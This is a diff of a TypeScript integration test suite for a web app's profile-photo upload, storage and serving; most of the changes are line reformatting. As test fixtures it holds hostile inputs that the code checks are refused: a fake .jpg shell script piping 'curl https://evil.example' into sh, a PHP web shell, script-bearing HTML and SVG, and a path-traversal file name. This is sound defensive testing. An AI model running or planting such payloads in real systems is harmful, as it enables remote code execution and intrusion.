@@ -12,7 +12,8 @@ process.env.SESSION_SECRET = "integration-test-secret-long-enough-000000";
 process.env.UPLOADS_DIR = UPLOADS;
 
 const { getStore } = await import("../../app/services/store/index.server");
-const { preparePhoto, updateProfilePhoto, removeProfilePhoto, getProfilePhotoFile } = await import("../../app/models/identity/profile-photo.server");
+const { preparePhoto, updateProfilePhoto, removeProfilePhoto, getProfilePhotoFile } =
+  await import("../../app/models/identity/profile-photo.server");
 const { readPhotoForm } = await import("../../app/server/photo-form.server");
 const { PHOTO_MAX_BYTES, PHOTO_MAX_REQUEST_BYTES, photoFileNameFromUrl } = await import("../../app/models/identity/profile-photo");
 const { getPrivateUser, savePrivateUser } = await import("../../app/models/identity/user.server");
@@ -21,7 +22,8 @@ const settingsRoute = await import("~/routes/settings");
 const sessionRoute = await import("~/routes/api.session");
 
 const SITE = "http://localhost:3000";
-const storedFiles = () => (existsSync(join(UPLOADS, "members")) ? readdirSync(join(UPLOADS, "members")).filter((name) => !name.startsWith(".")) : []);
+const storedFiles = () =>
+  existsSync(join(UPLOADS, "members")) ? readdirSync(join(UPLOADS, "members")).filter((name) => !name.startsWith(".")) : [];
 
 const solid = (width: number, height: number, background: string) => sharp({ create: { width, height, channels: 3, background } });
 
@@ -39,7 +41,13 @@ async function sidewaysJpegWithGps(): Promise<Buffer> {
       orientation: 6,
       exif: {
         IFD0: { Make: "StillhourTestCam", Model: "Sideways 1" },
-        IFD3: { GPSLatitudeRef: "N", GPSLatitude: "48/1 51/1 24/1", GPSLongitudeRef: "E", GPSLongitude: "2/1 21/1 7/1", GPSMapDatum: "WGS-84" },
+        IFD3: {
+          GPSLatitudeRef: "N",
+          GPSLatitude: "48/1 51/1 24/1",
+          GPSLongitudeRef: "E",
+          GPSLongitude: "2/1 21/1 7/1",
+          GPSMapDatum: "WGS-84",
+        },
       },
     })
     .toBuffer();
@@ -53,7 +61,8 @@ function expectNear(actual: string | null | undefined, expected: string) {
   channels(expected).forEach((value, i) => expect(Math.abs(value - a[i])).toBeLessThanOrEqual(16));
 }
 
-const fileOf = (bytes: Uint8Array | string, name: string, type: string) => new File([typeof bytes === "string" ? bytes : new Uint8Array(bytes)], name, { type });
+const fileOf = (bytes: Uint8Array | string, name: string, type: string) =>
+  new File([typeof bytes === "string" ? bytes : new Uint8Array(bytes)], name, { type });
 
 /** A multipart request as a browser sends the photo form. */
 function photoRequest(file: File | null, init: { cookie?: string; intent?: string } = {}): Request {
@@ -116,7 +125,11 @@ describe("preparing a photo (real sharp)", () => {
   it.each([
     ["a shell script named .jpg", "#!/bin/sh\ncurl https://evil.example | sh\n", "photo_unsupported"],
     ["an HTML page", "<!doctype html><script>alert(1)</script>", "photo_unsupported"],
-    ["an SVG with a script", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>', "photo_unsupported"],
+    [
+      "an SVG with a script",
+      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
+      "photo_unsupported",
+    ],
     ["a PDF", "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "photo_unsupported"],
     ["an empty file", "", "photo_empty"],
     ["a JPEG header and nothing else", "\u00ff\u00d8\u00ff\u00e0garbage", "photo_unreadable"],
@@ -193,7 +206,11 @@ describe("reading the photo form", () => {
     const read = await readPhotoForm(photoRequest(fileOf(png, "me.png", "image/png")));
     expect(read.ok && read.fields.get("intent")).toBe("photo");
     expect(read.ok && read.file?.size).toBe(png.byteLength);
-    const partless = new Request(`${SITE}/settings`, { method: "POST", body: "no parts here", headers: { "Content-Type": "multipart/form-data; boundary=zzz" } });
+    const partless = new Request(`${SITE}/settings`, {
+      method: "POST",
+      body: "no parts here",
+      headers: { "Content-Type": "multipart/form-data; boundary=zzz" },
+    });
     const empty = await readPhotoForm(partless);
     expect(empty.ok && [empty.fields.get("intent"), empty.file]).toEqual([null, null]);
   });
@@ -210,7 +227,11 @@ describe("a member's photo, stored and served", () => {
     expectNear(record?.photoColor, "#335577");
     const firstName = photoFileNameFromUrl(record?.photoUrl)!;
 
-    const served = (await photoRoute.loader({ params: { file: firstName }, request: new Request(`${SITE}/images/members/${firstName}`), context: {} } as never)) as Response;
+    const served = (await photoRoute.loader({
+      params: { file: firstName },
+      request: new Request(`${SITE}/images/members/${firstName}`),
+      context: {},
+    } as never)) as Response;
     expect(served.status).toBe(200);
     expect(served.headers.get("Content-Type")).toBe("image/webp");
     expect(served.headers.get("Cache-Control")).toBe("private, max-age=31536000, immutable");
@@ -232,13 +253,18 @@ describe("a member's photo, stored and served", () => {
     expect(storedFiles()).not.toContain(firstName);
 
     // A refused upload changes nothing.
-    expect(await updateProfilePhoto(uid, fileOf("<?php system($_GET['c']); ?>", "me.jpg", "image/jpeg"))).toEqual({ ok: false, code: "photo_unsupported" });
+    expect(await updateProfilePhoto(uid, fileOf("<?php system($_GET['c']); ?>", "me.jpg", "image/jpeg"))).toEqual({
+      ok: false,
+      code: "photo_unsupported",
+    });
     expect((await getPrivateUser(uid))?.photoUrl).toBe(`/images/members/${secondName}`);
 
     expect(await removeProfilePhoto(uid)).toEqual({ ok: true, photoUrl: null });
     expect(await getPrivateUser(uid)).toMatchObject({ photoUrl: null, photoColor: null, firstName: "Ada" });
     expect(storedFiles()).not.toContain(secondName);
-    const gone = await photoRoute.loader({ params: { file: secondName }, request: new Request(`${SITE}/images/members/${secondName}`), context: {} } as never).catch((r: unknown) => r);
+    const gone = await photoRoute
+      .loader({ params: { file: secondName }, request: new Request(`${SITE}/images/members/${secondName}`), context: {} } as never)
+      .catch((r: unknown) => r);
     expect((gone as Response).status).toBe(404);
   });
 
@@ -256,13 +282,18 @@ describe("a member's photo, stored and served", () => {
 
   it("tells no file chosen from an empty one", async () => {
     expect(await updateProfilePhoto("nobody", null)).toEqual({ ok: false, code: "photo_missing" });
-    expect(await updateProfilePhoto("nobody", new File([], "", { type: "application/octet-stream" }))).toEqual({ ok: false, code: "photo_missing" });
+    expect(await updateProfilePhoto("nobody", new File([], "", { type: "application/octet-stream" }))).toEqual({
+      ok: false,
+      code: "photo_missing",
+    });
     expect(await updateProfilePhoto("nobody", fileOf("", "empty.jpg", "image/jpeg"))).toEqual({ ok: false, code: "photo_empty" });
   });
 
   it("answers 404 for any name it did not make", async () => {
     for (const file of ["../../stillhour.sqlite", "x.webp", "0123456789abcdef0123456789abcdef.webp"]) {
-      const answer = await photoRoute.loader({ params: { file }, request: new Request(`${SITE}/images/members/x`), context: {} } as never).catch((r: unknown) => r);
+      const answer = await photoRoute
+        .loader({ params: { file }, request: new Request(`${SITE}/images/members/x`), context: {} } as never)
+        .catch((r: unknown) => r);
       expect((answer as Response).status).toBe(404);
     }
   });
@@ -276,7 +307,11 @@ describe.skipIf(!haveEmulator)("the settings photo form (Auth emulator)", () => 
     const signedIn = await signInWithPhone(`+1555010${String(Date.now() % 10000).padStart(4, "0")}`);
     uid = signedIn.uid;
     const headers = new Headers({ Authorization: `Bearer ${signedIn.idToken}`, Origin: SITE, "x-client-ip": "10.7.0.1" });
-    const synced = (await sessionRoute.action({ request: new Request(`${SITE}/api/session`, { method: "POST", headers }), params: {}, context: {} } as never)) as Response;
+    const synced = (await sessionRoute.action({
+      request: new Request(`${SITE}/api/session`, { method: "POST", headers }),
+      params: {},
+      context: {},
+    } as never)) as Response;
     expect(synced.status).toBe(200);
     cookie = synced.headers.get("Set-Cookie")!.split(";")[0];
     await savePrivateUser(uid, { firstName: "Noor", lastName: "Sato", username: null });
@@ -284,12 +319,14 @@ describe.skipIf(!haveEmulator)("the settings photo form (Auth emulator)", () => 
 
   const act = async (request: Request) => {
     try {
-      return (await settingsRoute.action({ request, params: {}, context: {} } as never)) as unknown as { init?: { status?: number }; data?: unknown } | Response;
+      return (await settingsRoute.action({ request, params: {}, context: {} } as never)) as unknown as
+        { init?: { status?: number }; data?: unknown } | Response;
     } catch (thrown) {
       return thrown as Response;
     }
   };
-  const statusOf = (result: unknown) => (result instanceof Response ? result.status : ((result as { init?: { status?: number } }).init?.status ?? 200));
+  const statusOf = (result: unknown) =>
+    result instanceof Response ? result.status : ((result as { init?: { status?: number } }).init?.status ?? 200);
   const dataOf = (result: unknown) => (result as { data: { form: string; errors: Record<string, string> } }).data;
 
   it("saves an upload and says so, then removes it", async () => {
@@ -300,7 +337,11 @@ describe.skipIf(!haveEmulator)("the settings photo form (Auth emulator)", () => 
     expect((await getPrivateUser(uid))?.photoUrl).toMatch(/^\/images\/members\//);
 
     const removed = await act(
-      new Request(`${SITE}/settings`, { method: "POST", body: new URLSearchParams({ intent: "remove-photo" }), headers: { Cookie: cookie, Origin: SITE } }),
+      new Request(`${SITE}/settings`, {
+        method: "POST",
+        body: new URLSearchParams({ intent: "remove-photo" }),
+        headers: { Cookie: cookie, Origin: SITE },
+      }),
     );
     expect((removed as Response).headers.get("Location")).toBe("/settings?saved=photo-removed#photo");
     expect(await getPrivateUser(uid)).toMatchObject({ photoUrl: null, firstName: "Noor" });
@@ -334,7 +375,11 @@ describe.skipIf(!haveEmulator)("the settings photo form (Auth emulator)", () => 
     const name = photoFileNameFromUrl((await getPrivateUser(uid))?.photoUrl)!;
     expect(storedFiles()).toContain(name);
     const deleted = await act(
-      new Request(`${SITE}/settings`, { method: "POST", body: new URLSearchParams({ intent: "delete", confirm: "DELETE" }), headers: { Cookie: cookie, Origin: SITE } }),
+      new Request(`${SITE}/settings`, {
+        method: "POST",
+        body: new URLSearchParams({ intent: "delete", confirm: "DELETE" }),
+        headers: { Cookie: cookie, Origin: SITE },
+      }),
     );
     expect((deleted as Response).headers.get("Location")).toBe("/signed-out");
     expect(storedFiles()).not.toContain(name);
